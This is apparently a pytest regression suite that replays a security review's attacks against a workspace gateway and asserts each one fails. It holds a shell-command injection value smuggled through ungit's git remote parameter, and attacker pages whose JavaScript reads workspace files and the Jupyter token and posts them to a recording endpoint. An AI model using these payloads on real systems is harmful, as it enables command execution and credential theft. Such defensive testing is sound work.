"""Regression suite: the attacks a security review reproduced against the workspace's defaults with
a logged-in browser, replayed against the real minimal workspace. Every attack must FAIL.

The workspace runs `flavors/minimal.manifest.json` with the real tools (test_tools_live's
MinimalWorkspace: fixed internal ports and X display :1, so never run this module concurrently
with tests/test_tools_live.py or similar modules; wrap runs in `flock /tmp/mlws-live.lock ...`).
Everything is reached through the gateway only, never on a tool's own port.

Each attack is replayed twice:
(a) with requests / websocket-client, sending exactly the headers a browser sends for it (Origin,
    Sec-Fetch-Site/-Mode/-Dest/-User, Referer, and the session cookie only where a browser with a
    SameSite=Lax cookie attaches it: top-level GET navigations and anything same-site);
(b) with a real headless Chromium driven over the DevTools protocol (tests/cdp.py), logged in with
    the token link, opening attacker pages of this test's HTTP server on http://localhost:<A>/
    (cross-site) and http://127.0.0.1:<A>/ (same-site, cross-origin) that report what they got
    to the same server.
Attacks are judged by their effects (a marker file a shell command would create, what reached a
recording server, what a page could read), and every test carries a positive control: the same
action from the workspace's own origin does work, so a broken setup is not mistaken for a defence.

Threat model of each test (numbers as in the review):
1. one click on any website runs a shell command through ungit's /api/fetch (its `remote` is pasted
   unquoted into git's credential.helper, which git runs through the shell);
2. cross-origin websockets to noVNC and ungit's socket.io;
3. the session cookie leaks to any other service on the host (cookies ignore ports): it must not
   unlock the permanent token (JupyterLab's page config); logout must resist CSRF and revoke;
4. /tools/<port>/ must not serve other users' listeners on the workspace origin, nor forward the
   session cookie / Authorization to the workspace user's own listeners;
5. user content (a cloned repository's .html) must not run as the workspace origin;
7. framing and sniffing headers, no credentialed CORS, a rate limit on wrong tokens, no token in
   the access log, websockets with ?token= accepted directly without forwarding the token.
"""
from __future__ import annotations

import concurrent.futures
import http.server
import json
import os
import pwd
import re
import secrets
import shutil
import signal
import subprocess
import threading
import time
import urllib.parse

import pytest
import requests
import websocket

from tests.cdp import Chromium
from tests.runtime_helpers import free_port, runtime_env, session_with_token, shared_tempdir
from tests.test_tools_live import BASE, MANIFEST, READY_TIMEOUT, MinimalWorkspace, busy, fixed_ports, tool_bin

TOKEN = "attack-" + secrets.token_hex(16)
INTRUDER = "mlws-intruder"
UA = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/156.0.0.0 Safari/537.36"
NAVIGATE_ACCEPT = "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"
# What a browser sends when the user opens the token link (typed or clicked in the start-up log).
TOKEN_LINK_HEADERS = {"User-Agent": UA, "Accept": NAVIGATE_ACCEPT, "Sec-Fetch-Site": "none", "Sec-Fetch-Mode": "navigate",
                      "Sec-Fetch-Dest": "document", "Sec-Fetch-User": "?1", "Upgrade-Insecure-Requests": "1"}
WAIT_EFFECT = 2.0  # seconds an attack's effect is waited for when it is expected to be absent
# How long the right token may stay refused after the burst of wrong ones (the login service's
# lockout window is 60 s).
RATE_LIMIT_RECOVERY = 75.0


# --- servers of the test ------------------------------------------------------------------------

class Recorder:
    """A threaded HTTP server of this test on 127.0.0.1 that records every request."""

    def __init__(self, handler_factory):
        self.requests: list[dict] = []
        self.lock = threading.Lock()
        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler_factory(self))
        self.server.daemon_threads = True
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def record(self, handler, body: bytes = b"") -> dict:
        entry = {"method": handler.command, "path": handler.path, "headers": dict(handler.headers.items()),
                 "body": body, "time": time.monotonic()}
        with self.lock:
            self.requests.append(entry)
        return entry

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def attacker_handler(site: "AttackerSite"):
    class Handler(http.server.BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def log_message(self, *args):
            pass

        def _send(self, status: int, body: bytes, content_type: str = "text/html; charset=utf-8"):
            self.send_response(status)
            self.send_header("Content-Type", content_type)
            self.send_header("Content-Length", str(len(body)))
            self.send_header("Cache-Control", "no-store")
            self.end_headers()
            self.wfile.write(body)

        def do_GET(self):  # noqa: N802
            site.record(self)
            page = site.pages.get(self.path.partition("?")[0])
            if page is not None:
                self._send(200, page.encode())
            else:
                self._send(200 if self.path.startswith(BASE + "/") else 404, b"attacker\n", "text/plain")

        def do_POST(self):  # noqa: N802
            body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
            site.record(self, body)
            if self.path.startswith("/collect"):
                case = urllib.parse.parse_qs(urllib.parse.urlsplit(self.path).query).get("case", [""])[0]
                try:
                    data = json.loads(body.decode("utf-8", "replace"))
                except ValueError:
                    data = {"raw": body.decode("utf-8", "replace")}
                with site.lock:
                    site.reports.append({"case": case or data.get("case", ""), "data": data,
                                         "origin": self.headers.get("Origin", ""), "time": time.monotonic()})
            self._send(204, b"")

    return Handler


class AttackerSite(Recorder):
    """Attacker pages on http://localhost:<port>/ (cross-site to the workspace) and
    http://127.0.0.1:<port>/ (same-site, cross-origin), a /collect endpoint for what the pages got,
    and a recorder of every request (cookies the browser sends to this other port of the host)."""

    def __init__(self):
        self.pages: dict[str, str] = {}
        self.reports: list[dict] = []
        super().__init__(attacker_handler)

    @property
    def cross_site(self) -> str:
        return f"http://localhost:{self.port}"

    @property
    def same_site(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def wait_report(self, case: str, since: float, timeout: float) -> list[dict]:
        deadline = time.monotonic() + timeout
        while True:
            with self.lock:
                found = [r for r in self.reports if r["case"] == case and r["time"] >= since]
            if found or time.monotonic() >= deadline:
                return found
            time.sleep(0.1)


def git_handler(site: Recorder):
    class Handler(http.server.BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def log_message(self, *args):
            pass

        def do_GET(self):  # noqa: N802
            site.record(self)
            # A git remote that wants credentials: git then runs credential.helper (through the shell).
            self.send_response(401)
            self.send_header("WWW-Authenticate", 'Basic realm="attacker"')
            self.send_header("Content-Length", "0")
            self.end_headers()

    return Handler


# A recording HTTP server run as another Unix user (a separate process): prints one JSON line per
# request (path and header pairs), serves its page, and answers websocket upgrades with 101 and one
# text frame holding its marker.
LISTENER_SCRIPT = r'''
import base64, hashlib, http.server, json, sys
port, marker, page_file = int(sys.argv[1]), sys.argv[2], sys.argv[3]
with open(page_file, encoding="utf-8") as handle:
    page = handle.read().encode()
class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def log_message(self, *args):
        pass
    def do_GET(self):
        print(json.dumps({"path": self.path, "headers": list(self.headers.items())}), flush=True)
        if self.headers.get("Upgrade", "").lower() == "websocket":
            key = self.headers.get("Sec-WebSocket-Key", "")
            accept = base64.b64encode(hashlib.sha1((key + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11").encode()).digest())
            self.send_response(101)
            self.send_header("Upgrade", "websocket")
            self.send_header("Connection", "Upgrade")
            self.send_header("Sec-WebSocket-Accept", accept.decode())
            self.end_headers()
            self.wfile.write(bytes([0x81, len(marker)]) + marker.encode())
            self.wfile.flush()
            self.close_connection = True
            return
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(page)))
        self.end_headers()
        self.wfile.write(page)
server = http.server.ThreadingHTTPServer(("127.0.0.1", port), Handler)
print(json.dumps({"ready": port}), flush=True)
server.serve_forever()
'''


class UserListener:
    """LISTENER_SCRIPT running as `user` on a free port of 127.0.0.1."""

    def __init__(self, user: str | None, folder: str, page: str):
        self.user = user
        self.port = free_port()
        self.marker = f"listener-{user}-{secrets.token_hex(6)}"
        self.requests: list[dict] = []
        script = os.path.join(folder, f"listener-{self.marker}.py")
        page_file = os.path.join(folder, f"listener-{self.marker}.html")
        with open(script, "w", encoding="utf-8") as handle:
            handle.write(LISTENER_SCRIPT)
        with open(page_file, "w", encoding="utf-8") as handle:
            handle.write(page.replace("__MARKER__", self.marker))
        os.chmod(script, 0o644)
        os.chmod(page_file, 0o644)
        argv = ["/usr/bin/python3", "-u", script, str(self.port), self.marker, page_file]
        if user:
            argv = ["runuser", "-u", user, "--", *argv]
        self.process = subprocess.Popen(argv, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
                                        start_new_session=True)
        self.ready = threading.Event()
        self.output: list[str] = []
        threading.Thread(target=self._read, daemon=True).start()
        if not self.ready.wait(15):
            self.stop()
            raise AssertionError(f"listener as {user} did not start: {''.join(self.output)}")

    def _read(self) -> None:
        for line in self.process.stdout:
            self.output.append(line)
            try:
                entry = json.loads(line)
            except ValueError:
                continue
            if "ready" in entry:
                self.ready.set()
            else:
                entry["headers"] = {name.lower(): value for name, value in entry["headers"]}
                self.requests.append(entry)

    def wait_requests(self, probe: str, timeout: float = 5) -> list[dict]:
        """The recorded requests whose path contains probe (its output is read by a thread)."""
        deadline = time.monotonic() + timeout
        while True:
            found = [entry for entry in self.requests if probe in entry["path"]]
            if found or time.monotonic() >= deadline:
                return found
            time.sleep(0.05)

    def uid(self) -> int:
        return pwd.getpwnam(self.user).pw_uid if self.user else os.geteuid()

    def stop(self) -> None:
        if self.process.poll() is None:
            os.killpg(self.process.pid, signal.SIGTERM)
            try:
                self.process.wait(5)
            except subprocess.TimeoutExpired:
                os.killpg(self.process.pid, signal.SIGKILL)
                self.process.wait(5)


# --- fixtures -------------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def ws():
    with open(MANIFEST, encoding="utf-8") as handle:
        manifest = json.load(handle)
    taken = [port for port in fixed_ports(manifest) if busy(port)]
    assert not taken, f"ports {taken} on 127.0.0.1 are in use; the minimal manifest's tools need them"
    assert not os.path.exists("/tmp/.X11-unix/X1"), "an X server already serves display :1 (the VNC tool's display)"
    bin_dir = tool_bin()
    assert os.path.isdir(bin_dir), f"{bin_dir} is missing: run scripts/install-tools"
    path = os.pathsep.join([bin_dir, runtime_env()["PATH"]])
    workspace = MinimalWorkspace(env={
        "AUTHENTICATE_VIA_JUPYTER": TOKEN, "WORKSPACE_BASE_URL": BASE, "PATH": path, "INCLUDE_TUTORIALS": "false",
    })
    try:
        workspace.start(timeout=120)
        ready = workspace.wait_ready(READY_TIMEOUT)
        assert "mlws: workspace ready" in ready, ready
        workspace.user = workspace.env.get("NB_USER")  # None: not root, the runtime runs as us
        yield workspace
    finally:
        workspace.cleanup()


@pytest.fixture(scope="module")
def session(ws):
    return session_with_token(ws, TOKEN)


@pytest.fixture(scope="module")
def attacker():
    site = AttackerSite()
    yield site
    site.close()


@pytest.fixture(scope="module")
def git_remote():
    server = Recorder(git_handler)
    yield server
    server.close()


def as_user(user: str | None, argv: list[str], **kwargs) -> subprocess.CompletedProcess:
    if user:
        home = pwd.getpwnam(user).pw_dir
        argv = ["runuser", "-u", user, "--", "env", f"HOME={home}", *argv]
    return subprocess.run(argv, check=True, capture_output=True, text=True, timeout=60, **kwargs)


EVIL_HTML = """<!doctype html><html><head><meta charset="utf-8"><title>evil</title></head><body>
<p>a file of a cloned repository</p>
<script>
(async function () {
  var result = {};
  try {
    var r = await fetch(__BASE__ + '/api/contents', {credentials: 'include', cache: 'no-store'});
    result.status = r.status;
    result.body = (await r.text()).slice(0, 2000);
  } catch (e) { result.error = String(e); }
  result.href = String(location.href);
  result.origin = String(self.origin);
  await fetch(__COLLECT__, {method: 'POST', mode: 'no-cors', body: JSON.stringify(result)});
})();
</script></body></html>
"""


@pytest.fixture(scope="module")
def repo(ws, attacker):
    """A real git repository in the work folder, cloned from another one, holding evil.html."""
    name = "cloned-" + secrets.token_hex(4)
    upstream = os.path.join(ws.workspace_dir, "upstream-" + secrets.token_hex(4))
    clone = os.path.join(ws.workspace_dir, name)
    as_user(ws.user, ["git", "init", "-q", upstream])
    evil = EVIL_HTML.replace("__BASE__", json.dumps(BASE)).replace(
        "__COLLECT__", json.dumps(f"{attacker.same_site}/collect?case=evil"))
    as_user(ws.user, ["tee", os.path.join(upstream, "evil.html")], input=evil)
    as_user(ws.user, ["git", "-C", upstream, "add", "evil.html"])
    as_user(ws.user, ["git", "-C", upstream, "-c", "user.name=upstream", "-c", "user.email=u@example.invalid",
                      "commit", "-q", "-m", "add a page"])
    as_user(ws.user, ["git", "clone", "-q", upstream, clone])
    return {"path": clone, "name": name, "evil": evil}


def ensure_intruder_user() -> str:
    try:
        pwd.getpwnam(INTRUDER)
    except KeyError:
        created = subprocess.run(["useradd", "--system", "--no-create-home", "--shell", "/usr/sbin/nologin", INTRUDER],
                                 capture_output=True, text=True)
        if created.returncode != 0:
            pwd.getpwnam(INTRUDER)  # created meanwhile by someone else, or a real failure (KeyError)
    return INTRUDER


INTRUDER_PAGE = """<!doctype html><html><head><meta charset="utf-8"><title>__MARKER__</title></head><body>
<script>
(async function () {
  var result = {};
  try {
    var lab = await fetch(__BASE__ + '/lab', {credentials: 'include', cache: 'no-store'});
    var text = await lab.text();
    var found = text.match(/"token": *"([^"]*)"/);
    result.lab = lab.status;
    result.token = found ? found[1] : null;
    var contents = await fetch(__BASE__ + '/api/contents', {credentials: 'include', cache: 'no-store'});
    result.contents = contents.status;
  } catch (e) { result.error = String(e); }
  await fetch(__COLLECT__, {method: 'POST', mode: 'no-cors', body: JSON.stringify(result)});
})();
</script></body></html>
"""


@pytest.fixture(scope="module")
def listeners(ws, attacker):
    """A listener of ANOTHER Unix user (its page would read the token) and one of the workspace user."""
    if os.geteuid() != 0:
        pytest.fail("attack 4 needs root: it runs listeners as two different Unix users")
    folder = shared_tempdir("mlws-attack-listeners-")
    intruder_page = INTRUDER_PAGE.replace("__BASE__", json.dumps(BASE)).replace(
        "__COLLECT__", json.dumps(f"{attacker.same_site}/collect?case=intruder"))
    started = []
    try:
        intruder = UserListener(ensure_intruder_user(), folder, intruder_page)
        started.append(intruder)
        own = UserListener(ws.user, folder, "<!doctype html><title>__MARKER__</title><p>__MARKER__</p>")
        started.append(own)
        yield {"intruder": intruder, "own": own}
    finally:
        for listener in started:
            listener.stop()
        shutil.rmtree(folder, ignore_errors=True)


@pytest.fixture(scope="module")
def browser(ws):
    chromium = Chromium()
    try:
        login(chromium, ws)
        yield chromium
    finally:
        chromium.close()


def login(chromium: Chromium, ws) -> None:
    """Log in the way a user does: open the token link the workspace prints."""
    chromium.navigate(ws.url(f"{BASE}/?token={urllib.parse.quote(TOKEN, safe='')}"))
    chromium.navigate(ws.url(f"{BASE}/lab"))
    status = chromium.evaluate(f"fetch({json.dumps(BASE + '/api/contents')}, {{cache: 'no-store'}}).then(r => r.status)", await_promise=True)
    assert status == 200, f"the browser is not logged in after the token link (api/contents: {status})"


# --- helpers --------------------------------------------------------------------------------------

def cookie_header(session: requests.Session) -> str:
    return "; ".join(f"{cookie.name}={cookie.value}" for cookie in session.cookies)


def session_cookies(session: requests.Session) -> dict[str, str]:
    """The gateway's session cookie(s) in a logged-in jar (not Jupyter's _xsrf)."""
    return {cookie.name: cookie.value for cookie in session.cookies if cookie.name != "_xsrf"}


def browser_headers(site: str, mode: str, dest: str, referer: str | None, origin: str | None = None,
                    cookie: str | None = None, user: bool = False) -> dict[str, str]:
    """The headers Chromium sends: Sec-Fetch-*, Referer, Origin where it sends one, the cookie where a
    SameSite=Lax cookie is attached (the caller decides), plus Accept and User-Agent."""
    headers = {"User-Agent": UA, "Sec-Fetch-Site": site, "Sec-Fetch-Mode": mode, "Sec-Fetch-Dest": dest}
    if mode == "navigate":
        headers.update({"Accept": NAVIGATE_ACCEPT, "Upgrade-Insecure-Requests": "1"})
        if user:
            headers["Sec-Fetch-User"] = "?1"
    elif dest == "image":
        headers["Accept"] = "image/avif,image/webp,image/apng,image/svg+xml,image/*,*/*;q=0.8"
    else:
        headers["Accept"] = "*/*"
    if referer:
        headers["Referer"] = referer
    if origin:
        headers["Origin"] = origin
    if cookie:
        headers["Cookie"] = cookie
    return headers


def marker(ws, case: str) -> str:
    return os.path.join(ws.workspace_dir, f"pwned-{case}")


def ungit_fetch_query(ws, repo, git_remote, case: str) -> dict[str, str]:
    """ungit's GET /api/fetch with a `remote` that ends git's credential.helper command line and
    appends `touch <marker>` (no spaces: ${IFS}; '#' comments out the rest)."""
    remote = f"http://127.0.0.1:{git_remote.port}/{case};touch${{IFS}}{marker(ws, case)};#"
    return {"path": repo["path"], "socketId": "ignore", "remote": remote}


def ungit_fetch_url(ws, repo, git_remote, case: str) -> str:
    return ws.url(f"{BASE}/tools/ungit/api/fetch?" + urllib.parse.urlencode(ungit_fetch_query(ws, repo, git_remote, case)))


def command_ran(ws, git_remote, case: str, wait: float = 0.0) -> tuple[bool, bool]:
    """(marker file exists, git contacted the remote of this case), waiting up to `wait` seconds."""
    deadline = time.monotonic() + wait
    while True:
        touched = os.path.exists(marker(ws, case))
        contacted = any(entry["path"].startswith(f"/{case};") for entry in git_remote.requests)
        if touched or time.monotonic() >= deadline:
            return touched, contacted
        time.sleep(0.1)


def same_origin_ungit_fetch(ws, session, repo, git_remote, case: str) -> requests.Response:
    """What ungit's own page does (its fetch button): a same-origin XHR."""
    headers = browser_headers("same-origin", "cors", "empty", ws.url(f"{BASE}/tools/ungit/"),
                              cookie=cookie_header(session))
    return requests.get(ungit_fetch_url(ws, repo, git_remote, case), headers=headers, allow_redirects=False, timeout=60)


def first_ws_message(url: str, origin: str, headers: list[str], subprotocols=None, timeout: float = 5) -> dict:
    """Open a websocket as a page of `origin` would and return what the server sent first."""
    try:
        conn = websocket.create_connection(url, origin=origin, header=headers, subprotocols=subprotocols,
                                           timeout=timeout)
    except websocket.WebSocketBadStatusException as refused:
        return {"event": "refused", "status": refused.status_code}
    except (websocket.WebSocketException, OSError) as error:
        return {"event": "error", "data": repr(error)}
    try:
        data = conn.recv()
        if isinstance(data, bytes):
            if data.startswith(b"RFB 003.008"):
                finish_rfb_handshake(conn)
            data = data[:64].decode("latin-1")
        return {"event": "message", "data": data}
    except (websocket.WebSocketException, OSError) as error:
        return {"event": "no message", "data": repr(error)}
    finally:
        conn.close()


def finish_rfb_handshake(conn) -> None:
    """Complete the RFB handshake (security type None): Xvnc counts connections dropped before
    that as security failures and, after a few, answers every connection with an error."""
    try:
        conn.send_binary(b"RFB 003.008\n")
        types = conn.recv()
        if types and 1 in types[1:1 + types[0]]:
            conn.send_binary(b"\x01")
            conn.recv()  # SecurityResult
    except (websocket.WebSocketException, OSError):
        pass


def got_rfb(result: dict) -> bool:
    return result.get("event") == "message" and str(result.get("data", "")).startswith("RFB ")


def got_engineio_open(result: dict) -> bool:
    return result.get("event") == "message" and str(result.get("data", "")).startswith("0{")


def read_body(result: dict) -> bool:
    """A fetch() whose response the page could read (not an opaque or failed one)."""
    return result.get("event") == "response" and result.get("status") == 200 and result.get("type") != "opaque"


WEBSOCKETS = {
    # name: (path under the base URL, subprotocols, "received the server's greeting")
    "vnc": ("/tools/vnc/websockify", ["binary"], got_rfb),
    "ungit-socket.io": ("/tools/ungit/socket.io/?EIO=4&transport=websocket", None, got_engineio_open),
}


def csp_policies(response: requests.Response) -> list[str]:
    raw = response.headers.get("Content-Security-Policy", "")
    return [policy.strip() for policy in raw.split(",") if policy.strip()]


def sandboxed(response: requests.Response) -> bool:
    """A CSP `sandbox` directive without allow-same-origin (the document gets an opaque origin)."""
    for policy in csp_policies(response):
        for directive in policy.split(";"):
            words = directive.split()
            if words and words[0].lower() == "sandbox" and "allow-same-origin" not in [w.lower() for w in words[1:]]:
                return True
    return False


def framing_forbidden(response: requests.Response) -> bool:
    if response.headers.get("X-Frame-Options", "").strip().upper() in ("DENY", "SAMEORIGIN"):
        return True
    for policy in csp_policies(response):
        for directive in policy.split(";"):
            words = directive.split()
            if words and words[0].lower() == "frame-ancestors" and words[1:] and set(words[1:]) <= {"'self'", "'none'"}:
                return True
    return False


def nosniff(response: requests.Response) -> bool:
    return response.headers.get("X-Content-Type-Options", "").strip().lower() == "nosniff"


# JavaScript shared by the attacker pages and the same-origin controls: each probe resolves to a
# plain object saying what the page got.
PROBES_JS = r"""
function probeWs(url, protocols) {
  return new Promise(function (resolve) {
    var sock, settled = false;
    function done(r) { if (settled) return; settled = true; try { sock.close(); } catch (e) {} resolve(r); }
    try { sock = protocols ? new WebSocket(url, protocols) : new WebSocket(url); }
    catch (e) { resolve({event: 'exception', data: String(e)}); return; }
    sock.binaryType = 'arraybuffer';
    setTimeout(function () { done({event: 'timeout'}); }, 6000);
    sock.onmessage = function (m) {
      var d = typeof m.data === 'string' ? m.data : new TextDecoder().decode(new Uint8Array(m.data).slice(0, 64));
      done({event: 'message', data: d.slice(0, 300)});
    };
    sock.onerror = function () { done({event: 'error'}); };
    sock.onclose = function (c) { done({event: 'close', code: c.code}); };
  });
}
async function probeFetch(url, options) {
  try {
    var r = await fetch(url, Object.assign({cache: 'no-store'}, options));
    var body = '';
    try { body = (await r.text()).slice(0, 2000); } catch (e) { body = 'unreadable: ' + e; }
    return {event: 'response', status: r.status, type: r.type, body: body};
  } catch (e) { return {event: 'error', data: String(e)}; }
}
async function report(kase, data) {
  await fetch('/collect?case=' + encodeURIComponent(kase), {method: 'POST', body: JSON.stringify(data)});
}
async function probeAll(W, B) {
  return {
    vnc: await probeWs(W.replace(/^http/, 'ws') + B + '/tools/vnc/websockify', ['binary']),
    ungit_socket: await probeWs(W.replace(/^http/, 'ws') + B + '/tools/ungit/socket.io/?EIO=4&transport=websocket'),
    contents: await probeFetch(W + B + '/api/contents', {credentials: 'include', cache: 'no-store'}),
    netdata: await probeFetch(W + B + '/tools/netdata/api/v1/info', {credentials: 'include', cache: 'no-store'}),
  };
}
"""


def page(script: str, body: str = "") -> str:
    return ("<!doctype html><html><head><meta charset=\"utf-8\"><title>attacker</title></head><body>" + body
            + "<script>" + PROBES_JS + script + "</script></body></html>")


def js(value) -> str:
    return json.dumps(value)


def probe_failures(results: dict) -> list[str]:
    """Which cross-origin probes got what they were after."""
    bad = []
    if got_rfb(results["vnc"]):
        bad.append(f"noVNC websocket answered with the RFB greeting: {results['vnc']}")
    if got_engineio_open(results["ungit_socket"]):
        bad.append(f"ungit's socket.io websocket opened: {results['ungit_socket']}")
    for name in ("contents", "netdata"):
        if read_body(results[name]):
            bad.append(f"{name}: the page read the response: {str(results[name])[:300]}")
    return bad


def same_origin_controls(browser: Chromium, ws, repo, git_remote, case: str) -> None:
    """Positive control in the real browser: on a workspace page (B/lab) the same probes succeed
    and the same ungit request runs its command."""
    browser.navigate(ws.url(f"{BASE}/lab"))
    browser.evaluate(PROBES_JS + "; true")
    results = browser.evaluate(f"probeAll({js(ws.origin)}, {js(BASE)})", await_promise=True)
    assert got_rfb(results["vnc"]), f"control: same-origin noVNC websocket got no RFB greeting: {results['vnc']}"
    assert got_engineio_open(results["ungit_socket"]), f"control: same-origin socket.io did not open: {results['ungit_socket']}"
    assert read_body(results["contents"]), f"control: same-origin fetch of B/api/contents failed: {results['contents']}"
    listing = browser.evaluate(f"fetch({js(BASE + '/api/contents')}, {{cache: 'no-store'}}).then(r => r.text())", await_promise=True)
    assert repo["name"] in listing, f"control: B/api/contents does not list the repository: {listing[:300]}"
    assert read_body(results["netdata"]), f"control: same-origin Netdata fetch failed: {results['netdata']}"
    ran = browser.evaluate(
        f"fetch({js(ungit_fetch_url(ws, repo, git_remote, case))}, {{cache: 'no-store'}}).then(r => r.status)", await_promise=True)
    assert command_ran(ws, git_remote, case, wait=10)[0], (
        f"control: ungit's fetch from the workspace's own page did not run the command (HTTP {ran}): "
        "the payload or the ungit route is broken, the attack tests below would prove nothing")


# === 1. one click on any website: a command through ungit's /api/fetch ==============================

ATTACK1_REPLAYS = {
    # case: (Sec-Fetch-Site, -Mode, -Dest, initiator origin, user activation); the Lax cookie is
    # attached to all three (a top-level GET navigation, or same-site).
    "cross-site-link": ("cross-site", "navigate", "document", "cross_site", True),
    "same-site-form": ("same-site", "navigate", "document", "same_site", False),
    "same-site-img": ("same-site", "no-cors", "image", "same_site", False),
}


@pytest.mark.parametrize("case", sorted(ATTACK1_REPLAYS))
def test_ungit_fetch_from_another_site_runs_no_command(ws, session, attacker, git_remote, repo, case):
    site, mode, dest, initiator, user = ATTACK1_REPLAYS[case]
    origin = getattr(attacker, initiator)
    attack = f"a1-{case}"
    requests.get(ungit_fetch_url(ws, repo, git_remote, attack), allow_redirects=False, timeout=60,
                 headers=browser_headers(site, mode, dest, f"{origin}/attack.html", cookie=cookie_header(session), user=user))
    control = f"a1-{case}-control"
    answer = same_origin_ungit_fetch(ws, session, repo, git_remote, control)
    assert command_ran(ws, git_remote, control, wait=10)[0], (
        f"control: the same request from ungit's own page did not run the command (HTTP {answer.status_code}: "
        f"{answer.text[:300]})")
    touched, contacted = command_ran(ws, git_remote, attack, wait=1)
    assert not touched, f"{case}: the cross-origin request ran `touch` as the workspace user"
    assert not contacted, f"{case}: the cross-origin request made ungit run git against the attacker's remote"


# === 2. cross-origin websockets ======================================================================

WS_ORIGINS = {
    # case: (Origin, Sec-Fetch-Site); the cookie is attached in each (a same-site page gets it
    # under SameSite=Lax; the others stand for browsers that attach it anyway): the gateway's own
    # Origin check must refuse them.
    "same-site-page": ("same_site", "same-site"),
    "cross-site-page": ("cross_site", "cross-site"),
    "sandboxed-null-origin": ("null", "same-site"),
}


@pytest.mark.parametrize("target", sorted(WEBSOCKETS))
@pytest.mark.parametrize("case", sorted(WS_ORIGINS))
def test_websocket_from_another_origin_gets_nothing(ws, session, attacker, target, case):
    path, protocols, greeted = WEBSOCKETS[target]
    url = f"ws://127.0.0.1:{ws.port}{BASE}{path}"
    origin_name, site = WS_ORIGINS[case]
    origin = "null" if origin_name == "null" else getattr(attacker, origin_name)
    fetch_headers = [f"Cookie: {cookie_header(session)}", f"User-Agent: {UA}", "Sec-Fetch-Mode: websocket",
                     "Sec-Fetch-Dest: websocket"]
    control = first_ws_message(url, ws.origin, [*fetch_headers, "Sec-Fetch-Site: same-origin"], protocols)
    assert greeted(control), f"control: the same websocket from the workspace's own origin got nothing: {control}"
    result = first_ws_message(url, origin, [*fetch_headers, f"Sec-Fetch-Site: {site}"], protocols)
    assert not greeted(result), f"{target} from Origin {origin}: the backend answered: {result}"


def test_websocket_with_token_query_is_accepted_directly_and_the_token_stays_at_the_gateway(ws, listeners):
    """API clients: `?token=` on a websocket upgrade (no cookie) is a login by itself: 101 and the
    backend's data, not a 302 to a cookie; and the backend never sees the token."""
    vnc = first_ws_message(f"ws://127.0.0.1:{ws.port}{BASE}/tools/vnc/websockify?token={TOKEN}", ws.origin, [],
                           ["binary"])
    assert got_rfb(vnc), f"websocket with a valid ?token= (no cookie) was not accepted: {vnc}"
    own = listeners["own"]
    probe = "ws-" + secrets.token_hex(4)
    recorded = first_ws_message(f"ws://127.0.0.1:{ws.port}{BASE}/tools/{own.port}/{probe}?token={TOKEN}&kept=1",
                                ws.origin, [])
    assert recorded == {"event": "message", "data": own.marker}, recorded
    seen = own.wait_requests(probe)
    assert seen, "the upgrade did not reach the workspace user's listener"
    for entry in seen:
        assert "token=" not in entry["path"] and TOKEN not in json.dumps(entry), entry


# === 3. the session cookie of another service on the host ==========================================

def secrets_of_the_runtime(ws) -> set[str]:
    """The token and every secret-looking value in the runtime folder's JSON files."""
    found = {TOKEN}
    for folder, _, files in os.walk(ws.runtime_dir):
        for name in files:
            if not name.endswith(".json"):
                continue
            try:
                with open(os.path.join(folder, name), encoding="utf-8") as handle:
                    data = json.load(handle)
            except (OSError, ValueError):
                continue
            if isinstance(data, dict):
                for key, value in data.items():
                    if isinstance(value, str) and len(value) >= 16 and re.search(r"token|secret|session", key, re.I):
                        found.add(value)
    return found


def page_config(html: str) -> dict | None:
    found = re.search(r'<script id="jupyter-config-data" type="application/json">(.*?)</script>', html, re.S)
    return json.loads(found.group(1)) if found else None


@pytest.fixture(scope="module")
def stolen_cookie(ws, browser, attacker):
    """The logged-in browser opens a page of another service on the same host (another port): the
    browser sends it the workspace's session cookie, since cookies do not isolate ports."""
    since = time.monotonic()
    browser.navigate(f"{attacker.same_site}{BASE}/lab")
    sent = [entry for entry in attacker.requests if entry["time"] >= since and entry["path"].startswith(BASE)]
    return sent[0]["headers"].get("Cookie", "") if sent else ""


@pytest.mark.parametrize("path", ["/lab", "/tree"])
def test_the_session_cookie_does_not_unlock_the_token(ws, session, stolen_cookie, path):
    checked = []
    for source, cookie in (("the browser's cookie, sent to another port of the host", stolen_cookie),
                           ("a logged-in session's cookie", cookie_header(session))):
        if not cookie:
            continue
        answer = requests.get(ws.url(BASE + path), headers={"Cookie": cookie}, allow_redirects=False, timeout=20)
        if answer.status_code != 200:
            assert answer.status_code in (301, 302, 303, 307, 401, 403), (source, answer.status_code)
            continue
        config = page_config(answer.text)
        assert config is not None, f"{path} with {source}: no page config in the page: {answer.text[:300]}"
        checked.append(source)
        leaked = [key for key, value in config.items() if re.search("token", key, re.I) and value]
        assert not leaked, f"{path} with {source}: the page config holds {[(k, config[k]) for k in leaked]}"
        for value in secrets_of_the_runtime(ws):
            assert value not in answer.text, f"{path} with {source}: a secret of the runtime is in the page"
    assert checked, f"control: {path} was not served to a logged-in session, the page config was never inspected"


LOGOUT_CSRF = {
    "cross-site-link": ("cross-site", "navigate", "document", "cross_site", True),
    "same-site-img": ("same-site", "no-cors", "image", "same_site", False),
}


@pytest.mark.parametrize("case", sorted(LOGOUT_CSRF))
def test_logout_by_a_get_from_another_site_does_not_log_out(ws, attacker, case):
    victim = session_with_token(ws, TOKEN)
    contents = ws.url(f"{BASE}/api/contents")
    assert victim.get(contents, allow_redirects=False, timeout=20).status_code == 200, "control: the login did not work"
    site, mode, dest, initiator, user = LOGOUT_CSRF[case]
    origin = getattr(attacker, initiator)
    victim.get(ws.url(f"{BASE}/_mlws/logout"), allow_redirects=False, timeout=20,
               headers=browser_headers(site, mode, dest, f"{origin}/attack.html", user=user))
    after = victim.get(contents, allow_redirects=False, timeout=20)
